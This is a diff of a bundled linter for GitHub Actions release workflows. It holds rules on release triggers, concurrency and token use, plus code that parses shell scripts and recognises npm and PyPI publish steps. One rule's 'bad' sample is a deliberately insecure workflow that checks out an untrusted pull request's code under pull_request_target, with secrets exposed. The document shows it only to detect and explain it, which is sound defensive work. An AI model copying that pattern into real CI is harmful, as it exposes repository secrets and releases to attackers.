+                report(anchor.node, `This workflow publishes when ${what}, but ${event === 'release' ? 'the releases' : 'the tags'} of this repository are created by ${creation.tool} in ${where} with GITHUB_TOKEN, and events caused by GITHUB_TOKEN start no workflow: this publish never runs, and the versions tagged there never reach the registry.`, {
+                    key: anchor.key,
+                    needle: anchor.needle,
+                });
+            }
+        }
+    },
+};
+const OVERLAPS = [
+    ['created', 'published', 'a release published at once (not saved as a draft first) fires both'],
+    ['published', 'released', 'publishing a stable release fires both'],
+    ['published', 'prereleased', 'publishing a prerelease fires both'],
+    ['created', 'released', 'a stable release published at once fires both'],
+    ['created', 'prereleased', 'a prerelease published at once fires both'],
+];
+const releaseTriggerTypes = {
+    id: 'release-trigger-types',
+    severity: 'warning',
+    title: 'A publishing `release:` trigger without `types: [published]`, or with types that fire twice for one release.',
+    why: '`release:` without `types` runs for every activity (created, edited, published, prereleased, released, deleted...): one release starts the publish two or three times, and editing the notes publishes again. Some pairs of types fire together for one release, and `prereleased` does not fire for a prerelease published from a draft.',
+    fix: 'Use `types: [published]`: it fires once per release, drafts included, prereleases included.',
+    bad: `on:
+  release:
+permissions: {}
+concurrency: { group: publish, cancel-in-progress: false }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    good: `on:
+  release:
+    types: [published]
+permissions: {}
+concurrency: { group: publish, cancel-in-progress: false }
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    check({ repository, facts, report }) {
+        for (const workflow of repository.workflows) {
+            if (!workflow.events.has('release') || !facts.publishesInWorkflow(workflow))
+                continue;
+            const anchor = eventAnchor(workflow, 'release');
+            const typesNode = workflow.events.get('release')?.get('types');
+            const types = typesNode?.strings() ?? [];
+            if (types.length === 0) {
+                report(anchor.node, '`release:` has no `types:`, so this workflow runs for every release activity (created, edited, published, prereleased, released, deleted...): one release starts the publish two or three times, and editing its notes publishes again.', {
+                    key: anchor.key,
+                    needle: anchor.needle,
+                });
+                continue;
+            }
+            const overlap = OVERLAPS.find(([a, b]) => types.includes(a) && types.includes(b));
+            if (overlap) {
+                report(typesNode, `\`types: [${types.join(', ')}]\`: ${overlap[2]} \`${overlap[0]}\` and \`${overlap[1]}\`, so the publish runs twice for one release and the second run fails on "version already exists" (or uploads a rebuilt file).`);
+                continue;
+            }
+            const repeating = types.filter((type) => ['edited', 'deleted', 'unpublished'].includes(type));
+            if (repeating.length > 0) {
+                report(typesNode, `\`types:\` includes ${repeating.map((type) => `\`${type}\``).join(', ')}: editing or removing a release starts the publish again.`);
+            }
+            else if (types.includes('prereleased') && !types.includes('published')) {
+                report(typesNode, '`prereleased` does not fire for a prerelease published from a draft (only `published` does): prereleases drafted first are never published.');
+            }
+        }
+    },
+};
+const PR_HEAD = /^github\.(event\.pull_request\.head\.|head_ref$)/;
+const pullRequestTargetCheckout = {
+    id: 'pull-request-target-checkout',
+    severity: 'error',
+    title: "`pull_request_target` checks out the pull request's code.",
+    why: "`pull_request_target` runs with the base repository's secrets and a writable GITHUB_TOKEN, and can write the caches a release restores. Checking out the pull request's head there runs a stranger's code (its install scripts, tests, build) with all of that.",
+    fix: 'Run anything that builds or tests the pull request under `pull_request` (no secrets, read-only token); keep `pull_request_target` for labels and comments, without checking out the head.',
+    bad: `on: pull_request_target
+permissions: { contents: read }
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
+        with:
+          ref: \${{ github.event.pull_request.head.sha }}
+      - run: npm ci && npm test
+`,
+    good: `on: pull_request
+permissions: { contents: read }
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@08c6903cd8c0fde910a37f88322edcfb5dd907a8 # v5.0.0
+      - run: npm ci && npm test
+`,
+    check({ repository, report }) {
+        for (const workflow of repository.workflows) {
+            if (!workflow.events.has('pull_request_target'))
+                continue;
+            for (const job of workflow.jobs) {
+                for (const step of job.steps) {
+                    const checkout = (0,workflow_model/* actionName */.aM)(step.uses) === 'actions/checkout';
+                    const inputs = checkout ? [step.with?.get('ref'), step.with?.get('repository')] : [];
+                    for (const input of inputs) {
+                        const text = input?.str();
+                        if (!input || !text)
+                            continue;
+                        if ((0,expressions/* contextPathsIn */.rE)(text).some((path) => PR_HEAD.test(path)) ||
+                            /refs\/pull\//.test(text)) {
+                            report(step.via ? (0,workflow_model/* stepAnchor */.AK)(step) : input, `This workflow runs on \`pull_request_target\` (with this repository's secrets and a writable GITHUB_TOKEN) and checks out the pull request's code (\`${text}\`) in job "${job.id}": anyone who opens a pull request runs their code here, and can poison the caches the release restores.`, { key: !step.via });
+                            break;
+                        }
+                    }
+                    const run = step.run;
+                    if (run &&
+                        /\b(gh pr checkout|git (checkout|fetch)\b.*(pull\/|head_ref|pull_request\.head))/.test(run)) {
+                        const line = run
+                            .split('\n')
+                            .find((each) => /gh pr checkout|git (checkout|fetch)/.test(each))
+                            .trim();
+                        report(step.via ? (0,workflow_model/* stepAnchor */.AK)(step) : step.runNode, `This workflow runs on \`pull_request_target\` (with this repository's secrets and a writable GITHUB_TOKEN) and fetches the pull request's code in job "${job.id}": anyone who opens a pull request runs their code here.`, { needle: step.via ? undefined : line });
+                    }
+                }
+            }
+        }
+    },
+};
+function releaseJobs(workflow, facts) {
+    return workflow.jobs.filter((job) => facts.publishesAnywhere(job) || facts.jobTags(job).length > 0);
+}
+const releaseWithoutConcurrency = {
+    id: 'release-without-concurrency',
+    severity: 'warning',
+    title: 'A release workflow has no `concurrency:`.',
+    why: 'Two runs of one release (a second click on "Run workflow", a tag pushed again, a rerun while the first still waits for approval) run side by side: both publish, one fails halfway on "version already exists", and tags and releases interleave.',
+    fix: 'Add `concurrency: { group: release-${{ github.ref }}, cancel-in-progress: false }` at the top of the workflow.',
+    bad: `on: { workflow_dispatch: {} }
+permissions: {}
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    good: `on: { workflow_dispatch: {} }
+permissions: {}
+concurrency:
+  group: release-\${{ github.ref }}
+  cancel-in-progress: false
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    check({ repository, facts, report }) {
+        for (const workflow of repository.workflows) {
+            if (workflow.concurrency)
+                continue;
+            const events = [...workflow.events.keys()];
+            if (events.length === 0 || events.every((event) => event === 'workflow_call'))
+                continue;
+            const jobs = releaseJobs(workflow, facts);
+            if (jobs.length === 0 || jobs.every((job) => job.concurrency))
+                continue;
+            report(workflow.on ?? workflow.node, `This workflow releases (job${jobs.length > 1 ? 's' : ''} ${jobs.map((job) => `"${job.id}"`).join(', ')}) but has no \`concurrency:\`: two runs for one version (a second dispatch, a re-pushed tag, a rerun while the first waits for approval) publish side by side, and one fails halfway on "version already exists".`, { key: workflow.on !== undefined });
+        }
+    },
+};
+/**
+ * A concurrency group that reads the run's own id or number (`${{ github.head_ref || github.run_id }}`):
+ * outside pull requests every run has a group of its own, so a newer one cancels nothing.
+ */
+function groupIsPerRun(concurrency) {
+    const group = concurrency?.get('group')?.str() ?? '';
+    return (0,expressions/* contextPathsIn */.rE)(group).some((path) => path === 'github.run_id' || path === 'github.run_number');
+}
+const releaseCancelInProgress = {
+    id: 'release-cancel-in-progress',
+    severity: 'error',
+    title: '`cancel-in-progress: true` on a release workflow or a publishing job.',
+    why: 'A newer run cancels the one in progress wherever it is: between the npm and the PyPI upload, after the tag but before the release, halfway through a monorepo\'s packages. The release is left half done and a rerun meets "version already exists". A group that reads `github.run_id` (the usual `${{ github.head_ref || github.run_id }}`) is unique to each run outside pull requests, so it cancels nothing there and is not reported.',
+    fix: 'Use `cancel-in-progress: false`: the second run waits for the first to finish.',
+    bad: `on: { push: { branches: [main] } }
+permissions: {}
+concurrency:
+  group: release
+  cancel-in-progress: true
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    good: `on: { push: { branches: [main] } }
+permissions: {}
+concurrency:
+  group: release
+  cancel-in-progress: false
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: release
+    permissions: { id-token: write, contents: read }
+    steps:
+      - uses: actions/download-artifact@634f93cb2916e3fdff6788551b99b062d0335ce0 # v5.0.0
+      - uses: pypa/gh-action-pypi-publish@ed0c53931b1dc9bd32cbe73a98c7f6766f8a527e # v1.13.0
+`,
+    check({ repository, facts, report }) {
+        for (const workflow of repository.workflows) {
+            const jobs = releaseJobs(workflow, facts);
+            if (jobs.length === 0)
+                continue;
+            const places = [
+                [workflow.concurrency, 'this workflow'],
+                ...jobs.map((job) => [job.concurrency, `job "${job.id}"`]),
+            ];
+            for (const [concurrency, what] of places) {
+                const cancel = concurrency?.get('cancel-in-progress');
+                if (cancel?.str() !== 'true' || groupIsPerRun(concurrency))
+                    continue;
+                report(cancel, `\`cancel-in-progress: true\` on ${what}, which releases: a newer run cancels this one wherever it is (between the npm and the PyPI upload, after the tag but before the release), leaving a half-done release that a rerun cannot finish ("version already exists").`, { key: true });
+            }
+        }
+    },
+};
+
+;// CONCATENATED MODULE: ./packages/cli/src/doctor/rules/index.ts
+
+
+
+
+
+
+
+const RULES = [
+    publishWithoutEnvironment,
+    idTokenAtWorkflowLevel,
+    publishWithoutIdToken,
+    longLivedToken,
+    setupNodeRegistryUrl,
+    npmTooOld,
+    deadPublishTrigger,
+    tagBeforeTest,
+    publishBeforeTest,
+    versionComputedTwice,
+    scriptInjection,
+    buildInPublishJob,
+    cacheInPublishJob,
+    testGateBypass,
+    unpinnedAction,
+    pullRequestTargetCheckout,
+    releaseWithoutConcurrency,
+    releaseCancelInProgress,
+    phantomVersion,
+    releaseTriggerTypes,
+    publishNotRerunnable,
+    pypiReusableWorkflow,
+    missingLocalReference,
+    invalidYaml,
+    ignoreDirective,
+];
+
+
+/***/ }),
+
+/***/ 7088:
+/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {
+
+
+// EXPORTS
+__webpack_require__.d(__webpack_exports__, {
+  jj: () => (/* binding */ RELEASE_IT_DEFAULTS),
+  tG: () => (/* binding */ buildRunBy),
+  w7: () => (/* binding */ cacheOf),
+  XP: () => (/* binding */ commits),
+  VH: () => (/* binding */ isGithubToken),
+  U_: () => (/* binding */ isTokenVariable),
+  ZU: () => (/* binding */ publishesOf),
+  $j: () => (/* binding */ pushesBranch),
+  Bs: () => (/* binding */ stepCommands),
+  WH: () => (/* binding */ stepEnv),
+  SX: () => (/* binding */ tagCreationsOf),
+  G$: () => (/* binding */ testsRunBy),
+  zt: () => (/* binding */ versionComputedBy)
+});
+
+// UNUSED EXPORTS: scriptName, toolWords
+
+// EXTERNAL MODULE: ./packages/cli/src/doctor/expressions.ts
+var expressions = __webpack_require__(8079);
+;// CONCATENATED MODULE: ./packages/cli/src/doctor/shell-commands.ts
+// The simple commands of a `run:` script, split well enough to recognise `npm publish` or
+// `git tag`: continuations joined, comments dropped, `&&`, `||`, `;` and `|` split, leading
+// `VAR=value`, `sudo` and `time` removed, quotes taken off each word. Not a shell parser: a
+// command it cannot read is simply not recognised.
+const PREFIXES = new Set(['sudo', 'time', 'exec', 'command', 'env', 'nohup']);
+function commandsIn(script) {
+    const joined = script.replace(/\\\r?\n/g, ' ');
+    const commands = [];
+    for (const rawLine of joined.split(/\r?\n/)) {
+        const substitutions = [];
+        // `$(...)` and backticks, even inside double quotes: their content is a command of its own,
+        // and the outer command keeps a `$SUBST` word in their place.
+        let line = stripComment(rawLine);
+        for (let pass = 0; pass < 3; pass++) {
+            line = line.replace(/\$\(([^()]*)\)|`([^`]*)`/g, (_, inner, backtick) => {
+                substitutions.push(inner ?? backtick ?? '');
+                return '$SUBST';
+            });
+        }
+        for (const part of [...splitOperators(line), ...substitutions.flatMap(splitOperators)]) {
+            const text = part.trim();
+            if (text === '')
+                continue;
+            let words = splitWords(text);
+            while (words.length > 0) {
+                const first = words[0];
+                if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(first) || PREFIXES.has(first))
+                    words = words.slice(1);
+                else if (first === '-E' || first === '-u')
+                    words = words.slice(1);
+                else
+                    break;
+            }
+            if (words.length > 0)
+                commands.push({ text, words });
+        }
+    }
+    return commands;
+}
+function stripComment(line) {
+    let quote;
+    for (let index = 0; index < line.length; index++) {
+        const char = line[index];
+        if (quote) {
+            if (char === quote)
+                quote = undefined;
+            else if (char === '\\' && quote === '"')
+                index++;
+        }
+        else if (char === '"' || char === "'")
+            quote = char;
+        else if (char === '#' && (index === 0 || /\s/.test(line[index - 1])))
+            return line.slice(0, index);
+    }
+    return line;
+}
+function splitOperators(line) {
+    const parts = [];
+    let quote;
+    let start = 0;
+    for (let index = 0; index < line.length; index++) {
+        const char = line[index];
+        if (quote) {
+            if (char === quote)
+                quote = undefined;
+            else if (char === '\\' && quote === '"')
+                index++;
+            continue;
+        }
+        if (char === '"' || char === "'")
+            quote = char;
+        else if (char === ';' || char === '|' || (char === '&' && line[index + 1] === '&')) {
+            parts.push(line.slice(start, index));
+            if (line[index + 1] === char)
+                index++;
+            start = index + 1;
+        }
+    }
+    parts.push(line.slice(start));
+    return parts;
+}
+function splitWords(text) {
+    const words = [];
+    let current = '';
+    let quote;
+    let has = false;
+    for (let index = 0; index < text.length; index++) {
+        const char = text[index];
+        if (quote) {
+            if (char === quote)
+                quote = undefined;
+            else
+                current += char;
+        }
+        else if (char === '"' || char === "'") {
+            quote = char;
+            has = true;
+        }
+        else if (/\s/.test(char)) {
+            if (has || current !== '')
+                words.push(current);
+            current = '';
+            has = false;
+        }
+        else {
+            current += char;
+        }
+    }
+    if (has || current !== '')
+        words.push(current);
+    return words;
+}
+
+// EXTERNAL MODULE: ./packages/cli/src/doctor/workflow-model.ts
+var workflow_model = __webpack_require__(3647);
+;// CONCATENATED MODULE: ./packages/cli/src/doctor/step-kinds.ts
+// What a step does, as far as releases are concerned: publish (to which registry, with a token or
+// through trusted publishing), create a tag or a GitHub Release (with which token), run tests,
+// build or install dependencies, restore a cache, compute a date or a version. Read from `uses:`
+// and from the commands of `run:` (with `npm run x` looked up in the root package.json).
+
+
+
+const PACKAGE_MANAGERS = new Set(['npm', 'pnpm', 'yarn', 'bun']);
+const PM_BUILTINS = new Set('install i ci add remove rm uninstall update up upgrade publish pack exec dlx test t run run-script link unlink audit outdated list ls why config set get version init create info view login logout whoami deprecate dist-tag store prune rebuild import fetch workspaces workspace npm cache patch env setup dedupe licenses bin root help x start stop restart recursive -r changeset'.split(' '));
+const FLAGS_WITH_VALUE = new Set([
+    '--filter',
+    '-F',
+    '-C',
+    '--dir',
+    '-w',
+    '--workspace',
+    '--prefix',
+    '--cwd',
+    '--tag',
+    '--access',
+    '--registry',
+    '--otp',
+]);
+const TOOL_RUNNERS = [
+    ['npx', 1],
+    ['pnpx', 1],
+    ['bunx', 1],
+    ['uvx', 1],
+    ['pipx run', 2],
+    ['pnpm exec', 2],
+    ['pnpm dlx', 2],
+    ['yarn dlx', 2],
+    ['yarn exec', 2],
+    ['npm exec', 2],
+    ['uv run', 2],
+    ['uv tool run', 3],
+    ['poetry run', 2],
+    ['pdm run', 2],
+    ['python -m', 2],
+    ['python3 -m', 2],
+    ['py -m', 2],
+];
+/** The commands of a step's script, `npm run x` expanded into the script it names (3 levels). */
+function stepCommands(step, scripts) {
+    if (step.run === undefined)
+        return [];
+    // Many questions are asked of each step (and of each step of its job): split its script once.
+    const known = commandsCache.get(step);
+    if (known?.scripts === scripts && known.run === step.run)
+        return known.commands;
+    const commands = expand(commandsIn(step.run), scripts, undefined, 0);
+    commandsCache.set(step, { scripts, run: step.run, commands });
+    return commands;
+}
+const commandsCache = new WeakMap();
+function expand(commands, scripts, script, depth) {
+    const result = [];
+    for (const command of commands) {
+        result.push({ ...command, script });
+        const name = scriptName(command.words);
+        const body = name === undefined ? undefined : scripts[name];
+        if (body !== undefined && depth < 3) {
+            // npm appends what follows `--` to the end of the script (`npm run release -- --no-npm`).
+            const extra = scriptArguments(command.words, name);
+            const full = extra.length > 0 ? `${body} ${extra.map(quoteWord).join(' ')}` : body;
+            result.push(...expand(commandsIn(full), scripts, script ?? name, depth + 1).map((inner) => ({
+                ...inner,
+                text: command.text,
+            })));
+        }
+    }
+    return result;
+}
+/** The words `npm run x -- a b` (npm, bun) or `pnpm x a b` (pnpm, yarn) hands to script x. */
+function scriptArguments(words, name) {
+    const at = words.indexOf(name, 1);
+    if (at < 0)
+        return [];
+    const after = words.slice(at + 1);
+    const dashes = after.indexOf('--');
+    if (words[0] === 'npm' || words[0] === 'bun')
+        return dashes < 0 ? [] : after.slice(dashes + 1);
+    return after[0] === '--' ? after.slice(1) : after;
+}
+function quoteWord(word) {
+    return /^[\w@%+=:,./-]+$/.test(word) ? word : `'${word.replace(/'/g, `'\\''`)}'`;
+}
+/** `npm run x`, `pnpm x`, `yarn x`: the script name; undefined for anything else. */
+function scriptName(words) {
+    if (!PACKAGE_MANAGERS.has(words[0] ?? ''))
+        return undefined;
+    const rest = operands(words.slice(1));
+    const sub = rest[0];
+    if (sub === 'run' || sub === 'run-script')
+        return rest[1];
+    if (words[0] !== 'npm' && words[0] !== 'bun' && sub !== undefined && !PM_BUILTINS.has(sub))
+        return sub;
+    return undefined;
+}
+/** The words that are not flags (nor flags' values). */
+function operands(words) {
+    const result = [];
+    for (let index = 0; index < words.length; index++) {
+        const word = words[index];
+        if (word.startsWith('-')) {
+            if (FLAGS_WITH_VALUE.has(word))
+                index++;
+            continue;
+        }
+        result.push(word);
+    }
+    return result;
+}
+/** The words of the tool a runner starts: `npx -y semantic-release@24` gives `semantic-release`. */
+function toolWords(words) {
+    let current = words;
+    for (let pass = 0; pass < 3; pass++) {
+        const runner = TOOL_RUNNERS.find(([prefix, count]) => current.slice(0, count).join(' ') === prefix);
+        if (!runner)
+            break;
+        current = current.slice(runner[1]);
+        while (current[0]?.startsWith('-'))
+            current = current.slice(1);
+    }
+    const [first, ...rest] = current;
+    if (first === undefined)
+        return [];
+    const tool = first
+        .replace(/^@changesets\/cli(@.*)?$/, 'changeset')
+        .replace(/^(@[^/]+\/[^@]+|[^@]+)@.*$/, '$1');
+    return [tool, ...rest];
+}
+/** `npm ci`, `pnpm run build`: the package manager itself, not a tool it starts (`pnpm exec nx`). */
+function runsPackageManager(words) {
+    return PACKAGE_MANAGERS.has(words[0]) && toolWords(words)[0] === words[0];
+}
+const has = (words, ...flags) => words.some((word) => flags.includes(word));
+function pmSubcommand(words) {
+    return operands(words.slice(1))[0];
+}
+// ---- publishing ---------------------------------------------------------------------------
+const NPM_TOKEN_VARS = /^(NODE_AUTH_TOKEN|NPM_TOKEN|NPM_AUTH_TOKEN|NPM_CONFIG__AUTH(TOKEN)?|NPM_CONFIG_TOKEN)$/i;
+const PYPI_TOKEN_VARS = /^(TWINE_PASSWORD|PYPI_API_TOKEN|PYPI_TOKEN|PYPI_PASSWORD|UV_PUBLISH_TOKEN|UV_PUBLISH_PASSWORD|POETRY_PYPI_TOKEN_\w+|POETRY_HTTP_BASIC_\w+_PASSWORD|HATCH_INDEX_AUTH|FLIT_PASSWORD|MATURIN_PYPI_TOKEN|MATURIN_PASSWORD|PDM_PUBLISH_PASSWORD)$/i;
+/** Env variable names that hand a registry token to a publishing tool. */
+function isTokenVariable(name) {
+    return NPM_TOKEN_VARS.test(name) || PYPI_TOKEN_VARS.test(name);
+}
+/** A value that is GitHub's own per-run token (fine for GitHub Packages, not a registry token). */
+function isGithubToken(value) {
+    const paths = (0,expressions/* contextPathsIn */.rE)(value);
+    return (paths.length > 0 &&
+        paths.every((path) => /^secrets\.GITHUB_TOKEN$/i.test(path) || path === 'github.token'));
+}
+/** The env in effect for a step: workflow, job, step (later wins), each with its node. */
+function stepEnv(step) {
+    const env = new Map();
+    const layers = [step.job?.workflow.env, step.job?.env, step.via?.env, step.env];
+    for (const layer of layers)
+        for (const [name, value] of layer?.entries() ?? [])
+            env.set(name, value);
+    return env;
+}
+function tokenInEnv(step, pattern) {
+    for (const [name, value] of stepEnv(step)) {
+        const text = value.str()?.trim();
+        if (pattern.test(name) && text && !isGithubToken(text))
+            return true;
+    }
+    return false;
+}
+function npmRegistryOf(step, words) {
+    const flag = words.indexOf('--registry');
+    const explicit = flag >= 0 ? words[flag + 1] : words.find((word) => word.startsWith('--registry='));
+    const registry = explicit ??
+        step.job?.steps
+            .find((each) => (0,workflow_model/* actionName */.aM)(each.uses) === 'actions/setup-node')
+            ?.with?.get('registry-url')
+            ?.str();
+    if (registry && !/registry\.npmjs\.org/.test(registry) && !registry.includes('${{'))
+        return 'other';
+    return 'npm';
+}
+function pythonRegistryOf(words) {
+    const text = words.join(' ');
+    if (/test\.pypi\.org|testpypi/i.test(text))
+        return 'testpypi';
+    const url = /--(?:repository-url|publish-url|repository|index|index-url)[= ](\S+)/.exec(text)?.[1];
+    if (url && /^https?:/.test(url) && !/(upload\.)?pypi\.org/.test(url))
+        return 'other';
+    return 'pypi';
+}
+/** release-it's own defaults: it publishes and tags, and makes no GitHub Release. */
+const RELEASE_IT_DEFAULTS = {
+    npmPublish: true,
+    gitTag: true,
+    githubRelease: false,
+};
+/** One release-it setting as its command line leaves it: `--no-npm`, `--no-git.tag`, `--github.release`. */
+function releaseItSetting(tool, key, configured) {
+    const parent = key.split('.')[0];
+    let value = configured;
+    for (const word of tool) {
+        if (word === `--no-${parent}` || word === `--no-${key}`)
+            value = false;
+        else if (word === `--${key}` || word === `--${key}=true`)
+            value = true;
+        else if (word === `--${key}=false`)
+            value = false;
+    }
+    return value;
+}
+/** The publishes a step makes (one step may publish to npm and PyPI). */
+function publishesOf(step, scripts, releaseIt = RELEASE_IT_DEFAULTS) {
+    const found = [];
+    const name = (0,workflow_model/* actionName */.aM)(step.uses);
+    const npmToken = tokenInEnv(step, NPM_TOKEN_VARS);
+    const pypiToken = tokenInEnv(step, PYPI_TOKEN_VARS);
+    const env = stepEnv(step);
+    const provenanceEnv = /^true$/i.test(env.get('NPM_CONFIG_PROVENANCE')?.str() ?? '');
+    const add = (publish) => found.push({ step, publishOidc: false, ...publish });
+    if (name) {
+        const needle = step.uses;
+        if (name === 'pypa/gh-action-pypi-publish') {
+            const url = (0,workflow_model/* stepInput */.rj)(step, 'repository-url') ?? (0,workflow_model/* stepInput */.rj)(step, 'repository_url') ?? '';
+            const password = (0,workflow_model/* stepInput */.rj)(step, 'password');
+            add({
+                registry: /test\.pypi\.org/.test(url)
+                    ? 'testpypi'
+                    : url && !/pypi\.org/.test(url)
+                        ? 'other'
+                        : 'pypi',
+                tool: 'pypa/gh-action-pypi-publish',
+                needle,
+                usesToken: password !== undefined && password.trim() !== '',
+                provenance: false,
+            });
+        }
+        else if (name === 'js-devtools/npm-publish') {
+            const token = (0,workflow_model/* stepInput */.rj)(step, 'token');
+            const registry = (0,workflow_model/* stepInput */.rj)(step, 'registry');
+            add({
+                registry: registry && !/registry\.npmjs\.org/.test(registry) ? 'other' : 'npm',
+                tool: 'JS-DevTools/npm-publish',
+                needle,
+                usesToken: token !== undefined && token.trim() !== '' && !isGithubToken(token),
+                provenance: (0,workflow_model/* stepInput */.rj)(step, 'provenance') === 'true',
+            });
+        }
+        else if (name === 'changesets/action') {
+            if ((0,workflow_model/* stepInput */.rj)(step, 'publish'))
+                add({
+                    registry: 'npm',
+                    tool: 'changesets/action',
+                    needle,
+                    usesToken: npmToken,
+                    provenance: provenanceEnv,
+                });
+        }
+        else if (name === 'changesets/action/publish') {
+            // v2's publish sub-action: it publishes whatever its inputs say, no `publish:` script.
+            add({
+                registry: 'npm',
+                tool: 'changesets/action/publish',
+                needle,
+                usesToken: npmToken,
+                provenance: provenanceEnv,
+            });
+        }
+        else if (/^(cycjimmy|codfish)\/semantic-release-action$/.test(name)) {
+            add({ registry: 'npm', tool: name, needle, usesToken: npmToken, provenance: provenanceEnv });
+        }
+        else if (/(^|\/)actions\/publish-oidc$/.test(name) ||
+            /\/tokenless\/.*publish-oidc$/.test(name)) {
+            const registry = ((0,workflow_model/* stepInput */.rj)(step, 'registry') ?? '').trim();
+            add({
+                registry: registry === 'npm'
+                    ? 'npm'
+                    : registry === 'pypi'
+                        ? 'pypi'
+                        : registry === 'testpypi'
+                            ? 'testpypi'
+                            : registry.includes('${{')
+                                ? 'npm'
+                                : 'other',
+                tool: 'tokenless publish-oidc',
+                needle,
+                usesToken: false,
+                provenance: (0,workflow_model/* stepInput */.rj)(step, 'provenance') !== 'false',
+                publishOidc: true,
+            });
+        }
+    }
+    else if (/(^|\/)publish-oidc$/.test((0,workflow_model/* localPath */.$S)(step.uses) ?? '')) {
+        const registry = ((0,workflow_model/* stepInput */.rj)(step, 'registry') ?? '').trim();
+        add({
+            registry: registry === 'pypi' ? 'pypi' : registry === 'testpypi' ? 'testpypi' : 'npm',
+            tool: 'tokenless publish-oidc',
+            needle: step.uses,
+            usesToken: false,
+            provenance: (0,workflow_model/* stepInput */.rj)(step, 'provenance') !== 'false',
+            publishOidc: true,
+        });
+    }
+    for (const command of stepCommands(step, scripts)) {
+        const words = command.words;
+        const needle = command.text;
+        const dryRun = has(words, '--dry-run', '-n', '--dryrun');
+        if (dryRun)
+            continue;
+        const runText = command.text;
+        const inlineNpmToken = /_authToken|--\/\/.*:_authToken/.test(step.run ?? '');
+        if (runsPackageManager(words)) {
+            const sub = pmSubcommand(words);
+            const yarnNpm = words[0] === 'yarn' && words.includes('npm') && words.includes('publish');
+            if (sub === 'publish' ||
+                yarnNpm ||
+                (words[0] === 'pnpm' && sub === 'recursive' && words.includes('publish'))) {
+                if (has(words, '--help', '-h'))
+                    continue;
+                add({
+                    registry: npmRegistryOf(step, words),
+                    tool: `${words[0]} publish`,
+                    needle: runText,
+                    usesToken: npmToken || inlineNpmToken,
+                    provenance: has(words, '--provenance') || provenanceEnv,
+                });
+            }
+            continue;
+        }
+        const tool = toolWords(words);
+        const [first, second] = tool;
+        if (first === 'changeset' && second === 'publish') {
+            add({
+                registry: 'npm',
+                tool: 'changeset publish',
+                needle,
+                usesToken: npmToken || inlineNpmToken,
+                provenance: provenanceEnv,
+            });
+        }
+        else if ((first === 'semantic-release' || first === 'multi-semantic-release') &&
+            !has(tool, '-d')) {
+            add({
+                registry: 'npm',
+                tool: first,
+                needle,
+                usesToken: npmToken || inlineNpmToken,
+                provenance: provenanceEnv,
+            });
+        }
+        else if ((first === 'lerna' && second === 'publish') ||
+            (first === 'release-it' && releaseItSetting(tool, 'npm.publish', releaseIt.npmPublish))) {
+            add({
+                registry: 'npm',
+                tool: `${first}${second === 'publish' ? ' publish' : ''}`,
+                needle,
+                usesToken: npmToken || inlineNpmToken,
+                provenance: provenanceEnv,
+            });
+        }
+        else if (first === 'nx' &&
+            second === 'release' &&
+            !['version', 'changelog', 'plan', 'plan:check'].includes(tool[2] ?? '') &&
+            !has(tool, '--skip-publish', '-d')) {
+            add({
+                registry: 'npm',
+                tool: tool[2] === 'publish' ? 'nx release publish' : 'nx release',
+                needle,
+                usesToken: npmToken || inlineNpmToken,
+                provenance: provenanceEnv,
+            });
+        }
+        else if (first === 'twine' && second === 'upload') {
+            add({
+                registry: pythonRegistryOf(tool),
+                tool: 'twine upload',
+                needle,
+                usesToken: pypiToken || has(tool, '-p', '--password'),
+                provenance: false,
+            });
+        }
+        else if (first === 'uv' && second === 'publish') {
+            add({
+                registry: pythonRegistryOf(tool),
+                tool: 'uv publish',
+                needle,
+                usesToken: pypiToken ||
+                    has(tool, '--token', '-t', '--password', '-p') ||
+                    tool.some((w) => w.startsWith('--token=')) ||
+                    tool.includes('never'),
+                provenance: false,
+            });
+        }
+        else if (['poetry', 'hatch', 'flit', 'pdm'].includes(first ?? '') && second === 'publish') {
+            add({
+                registry: pythonRegistryOf(tool),
+                tool: `${first} publish`,
+                needle,
+                usesToken: pypiToken || has(tool, '--password', '-p', '-u', '--username', '-a', '--auth'),
+                provenance: false,
+            });
+        }
+        else if (first === 'maturin' && (second === 'publish' || second === 'upload')) {
+            add({
+                registry: pythonRegistryOf(tool),
+                tool: `maturin ${second}`,
+                needle,
+                usesToken: pypiToken || has(tool, '--password', '-p'),
+                provenance: false,
+            });
+        }
+        else if (/^python3?$/.test(first ?? '') &&
+            tool[1] === 'setup.py' &&
+            tool.includes('upload')) {
+            add({
+                registry: pythonRegistryOf(tool),
+                tool: 'setup.py upload',
+                needle,
+                usesToken: true,
+                provenance: false,
+            });
+        }
+    }
+    return found;
+}
